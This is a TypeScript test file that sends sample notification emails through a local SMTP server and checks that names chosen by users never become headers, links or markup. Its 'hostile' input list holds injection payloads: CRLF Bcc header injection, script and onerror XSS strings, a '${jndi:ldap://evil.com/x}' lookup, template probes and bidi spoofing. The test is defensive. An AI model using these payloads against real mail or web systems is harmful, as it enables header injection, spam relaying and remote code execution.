import { newId } from '@repartee/sdk/protocol'
import type { Language } from '@repartee/sdk/protocol/admin'
import { type SmtpServerHandle, startSmtp } from '@repartee/tools/servers/start-smtp'
import PostalMime, { type Email } from 'postal-mime'
import sanitizeHtml from 'sanitize-html'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { createSmtpTransport } from '../../src/adapters/smtp/smtp-transport.ts'
import { parseSmtpUrl } from '../../src/adapters/smtp/smtp-url.ts'
import { buildMessage } from '../../src/core/mail/build-message.ts'
import type { MailContent } from '../../src/core/mail/mail-content.ts'
import { findLinks } from '../../testing/find-links.ts'
import {
  kindsWithChosenText,
  mailKinds,
  SAMPLE_LINK,
  SAMPLE_SETTINGS,
  SAMPLE_UNSUBSCRIBE,
  sampleMail,
} from '../../testing/sample-mail.ts'
import { AT } from '../../testing/store-scene.ts'

const SERVICE = 'https://comments.example'
const DASHBOARD = 'https://comments.example/dashboard'
const sender = {
  from: { name: 'Comments, "Ann" & more', address: 'comments@blog.example' },
  service: SERVICE,
  dashboard: DASHBOARD,
}
const languages: readonly Language[] = ['en', 'vi']

/** What people enter as names, and what attackers do. */
const hostile = [
  '"=?utf-8?B?QmNjOiBldmlsQGV2aWwuZXhhbXBsZQ==?="',
  '=?utf-8?q?=0d=0aBcc:_eve@evil.example?=',
  'Ann\r\nBcc: eve@evil.example\r\n\r\n<script>alert(1)</script>',
  'Ann\u2028Bcc: eve@evil.example\u0000\u0007',
  'Eve, <eve@evil.example>, "Mallory" <m@evil.example>',
  '<img src=x onerror=alert(1)><a href="https://evil.example">here</a></title></style>',
  'http://evil.example/login?a=b#c',
  'HTTPS://EVIL.EXAMPLE',
  'www.evil.example',
  'evil.com',
  'evil.example:8080/path',
  '//evil.com/x',
  'mailto:eve@evil.com',
  'eve@evil.com',
  'ftp://evil.com',
  'evil。com and evil．com and evil｡com',
  'a.evil.com.b.evil.com',
  '\u202Egnp.exe\u202C \u2066left\u2067right',
  'عمر بن الخطاب',
  'ă'.repeat(5_000),
  'a.b.'.repeat(1_250),
  `e${'\u0301'.repeat(500)}`,
  '\uD800 lone',
  '.\r\n.\r\nQUIT',
  '-- \nFrom: the bank',
  '“curly” ’ & &amp; &#60;b&#62;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: some template languages have it
  '${jndi:ldap://evil.com/x} {{7*7}} %0aBcc:x',
]

/** The tags, links and text of HTML, as a parser sees them. */
const readHtml = (html: string): { tags: Set<string>; links: string[]; attributes: string[]; text: string } => {
  const tags = new Set<string>()
  const links: string[] = []
  const attributes: string[] = []
  sanitizeHtml(html, {
    allowedTags: false,
    allowedAttributes: false,
    allowVulnerableTags: true,
    onOpenTag: (name, attribs) => {
      tags.add(name)
      attributes.push(...Object.keys(attribs))
      if (attribs.href !== undefined) links.push(attribs.href)
    },
  })
  const text = sanitizeHtml(html, { allowedTags: [], nonTextTags: ['style', 'script'] })
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&')
  return { tags, links, attributes, text }
}

describe('through a real SMTP server and a parser', () => {
  let server: SmtpServerHandle
  beforeAll(async () => {
    server = await startSmtp()
  })
  afterAll(() => server.stop())

  const deliver = async (
    content: MailContent,
    id = newId(),
  ): Promise<{ id: string; parsed: Email; raw: string; to: readonly string[] }> => {
    const transport = createSmtpTransport({ server: parseSmtpUrl(`smtp://127.0.0.1:${server.port}`) })
    await transport.send(buildMessage({ id, createdAt: AT }, content, sender))
    const received = server.received.findLast(({ raw }) => raw.includes(id))
    if (received === undefined) throw new Error('nothing arrived')
    return { id, parsed: await PostalMime.parse(received.raw), raw: received.raw.toString('latin1'), to: received.to }
  }

  /** The links a mail has. */
  const links = ({ message }: MailContent): string[] => {
    if (message.kind === 'installation_problem') return [SAMPLE_LINK, SAMPLE_SETTINGS]
    if ('link' in message) return [SAMPLE_LINK]
    return ['email_changed', 'test'].includes(message.kind) ? [] : [DASHBOARD]
  }

  describe.each(languages)('in %s', (language) => {
    test.each(mailKinds)('%s has its headers once each, and both parts say the same', async (kind) => {
      const content = sampleMail(kind, { language })
      const { id, parsed, to } = await deliver(content)
      const isNotice = kind === 'installation_problem'
      expect(parsed.headers.map(({ key }) => key).sort()).toEqual(
        [
          'auto-submitted',
          'content-language',
          'content-type',
          'date',
          'from',
          'list-id',
          ...(isNotice ? ['list-unsubscribe', 'list-unsubscribe-post'] : []),
          'message-id',
          'mime-version',
          'subject',
          'to',
        ].sort(),
      )
      const header = (name: string) => parsed.headers.find(({ key }) => key === name)?.value
      expect(to).toEqual(['ann@example.org'])
      expect(parsed).toMatchObject({
        from: { name: 'Comments, "Ann" & more', address: 'comments@blog.example' },
        to: [{ name: '', address: 'ann@example.org' }],
        messageId: `<${id}@blog.example>`,
        date: new Date(AT - (AT % 1_000)).toISOString(),
        attachments: [],
      })
      expect(header('auto-submitted')).toBe('auto-generated')
      expect(header('content-language')).toBe(language)
      expect(header('list-id')).toBe(`<${isNotice ? 'notices' : 'account'}.repartee.blog.example>`)
      if (isNotice) {
        expect(header('list-unsubscribe')).toBe(`<${SAMPLE_UNSUBSCRIBE}>`)
        expect(header('list-unsubscribe-post')).toBe('List-Unsubscribe=One-Click')
      }
      expect(parsed.subject).toMatch(/^[^\s].{3,80}$/u)

      const html = readHtml(parsed.html ?? '')
      expect(html.text).toContain(parsed.subject)
      // Everything the text says is in the HTML, in the same order.
      let at = 0
      for (const line of (parsed.text ?? '').split('\n').flatMap((text) => text.split(/: (?=\S)|:$/))) {
        if (line.trim() === '' || line === '-- ' || line === SAMPLE_SETTINGS) continue
        const found = html.text.indexOf(line.trim(), at)
        expect(found, `${line} in ${html.text.slice(at)}`).toBeGreaterThanOrEqual(0)
        at = line.startsWith('https://') ? at : found
      }
      const expected = links(content)
      expect(new Set(html.links)).toEqual(new Set(expected))
      expect(new Set(findLinks(parsed.text ?? ''))).toEqual(new Set([...expected, SERVICE]))
      expect(parsed.html).toContain(`<html lang="${language}"`)
    })
  })

  test.each(kindsWithChosenText)(
    'in %s no text that someone chose becomes a header, a link or markup',
    async (kind) => {
      for (const language of languages) {
        const plain = await deliver(sampleMail(kind, { language }))
        const usual = readHtml(plain.parsed.html ?? '')
        const check = async (chosen: string): Promise<void> => {
          const content = sampleMail(kind, { language, chosen })
          const { parsed, raw, to } = await deliver(content)
          const about = JSON.stringify(chosen.slice(0, 60))
          expect(to, about).toEqual(['ann@example.org'])
          expect(
            parsed.headers.map(({ key }) => key),
            about,
          ).toEqual(plain.parsed.headers.map(({ key }) => key))
          expect(parsed.to, about).toEqual(plain.parsed.to)
          expect(parsed.from, about).toEqual(plain.parsed.from)
          // biome-ignore lint/suspicious/noControlCharactersInRegex: none may be there
          expect(parsed.subject, about).not.toMatch(/[\u0000-\u001f\u007f\u2028\u2029\u202a-\u202e\u2066\u2067]/)
          expect(parsed.subject?.length, about).toBeLessThan(300)
          expect(findLinks(parsed.subject ?? ''), about).toEqual([])
          const html = readHtml(parsed.html ?? '')
          expect(html.tags, about).toEqual(usual.tags)
          expect(new Set(html.attributes), about).toEqual(new Set(usual.attributes))
          expect(html.links, about).toEqual(usual.links)
          const allowed = new Set([...links(content), SERVICE])
          for (const text of [parsed.text ?? '', html.text])
            expect(
              findLinks(text).filter((link) => !allowed.has(link)),
              about,
            ).toEqual([])
          // RFC 5322 §2.1.1: no line over 998 characters; and no bare CR or LF.
          for (const line of raw.split('\r\n')) expect(line.length, about).toBeLessThan(998)
          expect(raw.replaceAll('\r\n', ''), about).not.toMatch(/[\r\n]/)
        }
        await Promise.all(hostile.map(check))
      }
    },
  )

  test('the same mail sent twice has the same Message-ID and date', async () => {
    const one = await deliver(sampleMail('test'))
    const two = await deliver(sampleMail('test'), one.id)
    expect(two.parsed.messageId).toBe(one.parsed.messageId)
    expect(two.parsed.date).toBe(one.parsed.date)
    expect(two.parsed.text).toBe(one.parsed.text)
  })

  test('a name is shown as it is, and in full unless it is very long', async () => {
    const shown = async (chosen: string) => (await deliver(sampleMail('invitation', { chosen }))).parsed.text ?? ''
    for (const name of ['Nguyễn Thị Minh Khai', "Seán O'Brien-Smith", '山田太郎', 'J. R. R. Tolkien', '👩‍👩‍👧 Family'])
      expect(await shown(name)).toContain(`“${name}” invites you to`)
    expect((await shown('J.R.R. Tolkien')).replaceAll('\u202f', ' ')).toContain('“J. R. R. Tolkien” invites')
    expect(await shown('ă'.repeat(5_000))).toContain(`“${'ă'.repeat(80)}…” invites`)
  })
})
